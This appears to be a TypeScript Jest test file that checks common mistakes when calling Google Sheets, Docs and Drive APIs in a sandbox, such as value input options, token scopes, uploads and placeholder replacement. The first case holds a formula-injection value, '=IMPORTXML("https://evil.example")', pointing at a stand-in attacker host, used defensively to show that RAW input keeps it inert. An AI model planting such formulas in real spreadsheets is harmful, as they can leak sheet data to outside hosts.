import { expect } from '@jest/globals'
import { FILE_ID } from '../../../../sandbox/google/index.ts'
import { ADA, BILAL } from '../harness.ts'
import { DOCUMENT, reasonOf, related, replaceAll, WORD } from './harness.ts'
import type { Mistake, Trial } from './mistakes.ts'

const UPLOAD = '/upload/drive/v3/files?uploadType=multipart&fields=id'
const METADATA = { name: 'Offer', mimeType: DOCUMENT }
const CUSTOMERS = `/v4/spreadsheets/${FILE_ID.customers}/values`

async function exportTemplate({ installer }: Trial): Promise<Buffer> {
  return (await installer.call(`/drive/v3/files/${FILE_ID.template}/export?mimeType=${WORD}`)).bytes
}

/** Uploads the template as the runner's document, and returns its id. */
async function makeDocument(trial: Trial): Promise<string> {
  return (await trial.runner.call(UPLOAD, related(METADATA, WORD, await exportTemplate(trial)))).body.id
}

/** Makes the requests on a document with this text, and returns the text that results. */
async function textAfter(
  { google, runner }: Trial,
  text: string,
  batches: readonly object[][],
  tabs?: readonly string[],
) {
  const base = { name: 'x', authorizedClients: google.oauth.clients.map(({ id }) => id) }
  const pages = tabs?.map((title) => ({ title, body: [{ inlines: [{ text }] }] }))
  const { id } = google.addFile(BILAL, pages ? { ...base, tabs: pages } : { ...base, text })
  for (const requests of batches) await runner.call(`/v1/documents/${id}:batchUpdate`, { body: { requests } })
  return google.readFile(id).text
}

/** Appends a row and returns the last row of the sheet. */
async function append({ google, sheets }: Trial, range: string, values: unknown[], query: string) {
  const reply = await sheets.call(`${CUSTOMERS}/${range}:append?${query}`, { body: { values: [values] } })
  if (reply.status !== 200) return reply.status
  const { content } = google.readFile(FILE_ID.customers)
  return content.kind === 'spreadsheet' ? content.spreadsheet.sheets[0]?.rows.at(-1) : undefined
}

/** A sheet with a total below its table. */
async function appendAboveTotal({ google, sheets }: Trial, query: string) {
  const { id } = google.addFile(ADA, { name: 'x', sheets: { S: [['Name'], ['Halden'], [], ['Total']] } })
  const values = [['Kestrel'], ['Volna']]
  await sheets.call(`/v4/spreadsheets/${id}/values/S!A1:append?${query}`, { body: { values } })
  return google.readFile(id).text.split('\r\n')
}

const RAW = 'valueInputOption=RAW&insertDataOption=INSERT_ROWS'

export const WRITING_MISTAKES: readonly Mistake[] = [
  {
    name: 'lets Sheets interpret a value (USER_ENTERED): a formula',
    wrong: (trial) =>
      append(trial, 'Customers', ['=IMPORTXML("https://evil.example")'], 'valueInputOption=USER_ENTERED'),
    loses: [{ formula: '=IMPORTXML("https://evil.example")', value: '#NAME?' }],
    right: (trial) => append(trial, 'Customers', ['=IMPORTXML("https://evil.example")'], RAW),
    gets: ['=IMPORTXML("https://evil.example")'],
  },
  {
    name: 'lets Sheets interpret a value (USER_ENTERED): a number and a date',
    wrong: (trial) => append(trial, 'Customers', ['007', '1/2'], 'valueInputOption=USER_ENTERED'),
    loses: [7, 46_054],
    right: (trial) => append(trial, 'Customers', ['007', '1/2'], RAW),
    gets: ['007', '1/2'],
  },
  {
    name: 'forgets valueInputOption',
    wrong: (trial) => append(trial, 'Customers', ['x'], 'insertDataOption=INSERT_ROWS'),
    loses: 400,
    right: (trial) => append(trial, 'Customers', ['x'], RAW),
    gets: ['x'],
  },
  {
    name: 'appends to a range beside the table',
    wrong: (trial) => append(trial, 'Customers!H9', ['x'], RAW),
    loses: [null, null, null, null, null, null, null, 'x'],
    right: (trial) => append(trial, 'Customers!A1', ['x'], RAW),
    gets: ['x'],
  },
  {
    name: 'overwrites what is below the table',
    wrong: (trial) => appendAboveTotal(trial, 'valueInputOption=RAW'),
    loses: ['Name', 'Halden', 'Kestrel', 'Volna'],
    right: (trial) => appendAboveTotal(trial, RAW),
    gets: ['Name', 'Halden', 'Kestrel', 'Volna', '', 'Total'],
  },
  {
    name: 'does not quote the name of a sheet',
    wrong: (trial) => append(trial, encodeURIComponent("Quarter's totals!A1"), ['x'], RAW),
    loses: 400,
    right: async ({ sheets }) =>
      (
        await sheets.call(`${CUSTOMERS}/${encodeURIComponent("'Quarter''s totals'!A1")}:append?${RAW}`, {
          body: { values: [['x']] },
        })
      ).status,
    gets: 200,
  },
  {
    name: 'copies the template with the runner’s token',
    wrong: async ({ runner }) => reasonOf(await runner.call(`/drive/v3/files/${FILE_ID.template}/copy`, { body: {} })),
    loses: [403, 'appNotAuthorizedToFile'],
    right: async (trial) => trial.google.readFile(await makeDocument(trial)).owner,
    gets: BILAL,
  },
  {
    name: 'copies with a token that may only read',
    wrong: async ({ installer }) =>
      (await installer.call(`/drive/v3/files/${FILE_ID.template}/copy`, { body: {} })).status,
    loses: 403,
    right: async (trial) => (await exportTemplate(trial)).subarray(0, 2).toString(),
    gets: 'PK',
  },
  {
    name: 'uploads the document with the installer’s token',
    wrong: async (trial) =>
      (await trial.installer.call(UPLOAD, related(METADATA, WORD, await exportTemplate(trial)))).status,
    loses: 403,
    async right(trial) {
      const id = await makeDocument(trial)
      return [trial.google.driveCalls({ file: id }), trial.google.driveCalls({ file: FILE_ID.template })].map((calls) =>
        calls.map(({ account }) => account),
      )
    },
    gets: [[BILAL], [ADA]],
  },
  {
    name: 'retries an upload whose response was lost',
    async wrong(trial) {
      const { google, runner } = trial
      const init = related(METADATA, WORD, await exportTemplate(trial))
      google.faults.add({ method: 'POST', path: '/upload/**', fault: { kind: 'reset', processed: true } })
      await runner.call(UPLOAD, init).catch(() => runner.call(UPLOAD, init))
      return google.filesOf(BILAL).length
    },
    loses: 2,
    async right(trial) {
      const { google, runner } = trial
      google.faults.add({ method: 'POST', path: '/upload/**', fault: { kind: 'reset', processed: true } })
      await runner.call(UPLOAD, related(METADATA, WORD, await exportTemplate(trial))).catch(() => undefined)
      return google.filesOf(BILAL).length
    },
    gets: 1,
  },
  {
    name: 'uploads a form',
    async wrong(trial) {
      const init = related(METADATA, WORD, await exportTemplate(trial))
      const headers = { 'content-type': 'multipart/form-data; boundary=a1b2' }
      return reasonOf(await trial.runner.call(UPLOAD, { ...init, headers }))
    },
    loses: [400, 'badContent'],
    right: async (trial) => trial.google.readFile(await makeDocument(trial)).mimeType,
    gets: DOCUMENT,
  },
  {
    name: 'uploads to the address of the metadata',
    wrong: async (trial) =>
      reasonOf(await trial.runner.call('/drive/v3/files', related(METADATA, WORD, await exportTemplate(trial)))),
    loses: [400, 'badContent'],
    right: async (trial) => trial.google.readFile(await makeDocument(trial)).mimeType,
    gets: DOCUMENT,
  },
  {
    name: 'forgets to ask for a conversion',
    async wrong(trial) {
      const { body } = await trial.runner.call(UPLOAD, related({ name: 'x' }, WORD, await exportTemplate(trial)))
      return reasonOf(await trial.runner.call(`/v1/documents/${body.id}:batchUpdate`, { body: { requests: [] } }))
    },
    loses: [400, 'FAILED_PRECONDITION'],
    right: async (trial) =>
      (await trial.runner.call(`/v1/documents/${await makeDocument(trial)}:batchUpdate`, { body: { requests: [] } }))
        .status,
    gets: 200,
  },
  {
    name: 'saves into a folder that drive.file does not reach',
    async wrong(trial) {
      const init = related({ ...METADATA, parents: [FILE_ID.proposals] }, WORD, await exportTemplate(trial))
      return reasonOf(await trial.runner.call(UPLOAD, init))
    },
    loses: [403, 'appNotAuthorizedToFile'],
    right: async (trial) => trial.google.readFile(await makeDocument(trial)).parents,
    gets: [expect.stringMatching(/^0A/)],
  },
  {
    name: 'replaces in the first tab only',
    wrong: (trial) =>
      textAfter(trial, '{{x}}', [replaceAll({ '{{x}}': '1' }, { tabsCriteria: { tabIds: ['t.0'] } })], ['A', 'B']),
    loses: 'A\n1\nB\n{{x}}',
    right: (trial) => textAfter(trial, '{{x}}', [replaceAll({ '{{x}}': '1' })], ['A', 'B']),
    gets: 'A\n1\nB\n1',
  },
  {
    name: 'lets a value be a further placeholder',
    wrong: (trial) => textAfter(trial, '{{a}} {{b}}', [replaceAll({ '{{a}}': '{{b}}', '{{b}}': '2' })]),
    loses: '2 2',
    right: (trial) =>
      textAfter(trial, '{{a}} {{b}}', [replaceAll({ '{{a}}': '⟦0⟧', '{{b}}': '⟦1⟧', '⟦0⟧': '{{b}}', '⟦1⟧': '2' })]),
    gets: '{{b}} 2',
  },
  {
    name: 'omits matchCase',
    wrong: (trial) =>
      textAfter(trial, '{{Name}} {{name}}', [
        [{ replaceAllText: { containsText: { text: '{{Name}}' }, replaceText: 'Ada' } }],
      ]),
    loses: 'Ada Ada',
    right: (trial) => textAfter(trial, '{{Name}} {{name}}', [replaceAll({ '{{Name}}': 'Ada' })]),
    gets: 'Ada {{name}}',
  },
  {
    name: 'puts a request that does not exist into the batch',
    wrong: (trial) => textAfter(trial, '{{x}}', [[...replaceAll({ '{{x}}': '1' }), { replaceText: {} }]]),
    loses: '{{x}}',
    right: (trial) => textAfter(trial, '{{x}}', [replaceAll({ '{{x}}': '1' })]),
    gets: '1',
  },
]
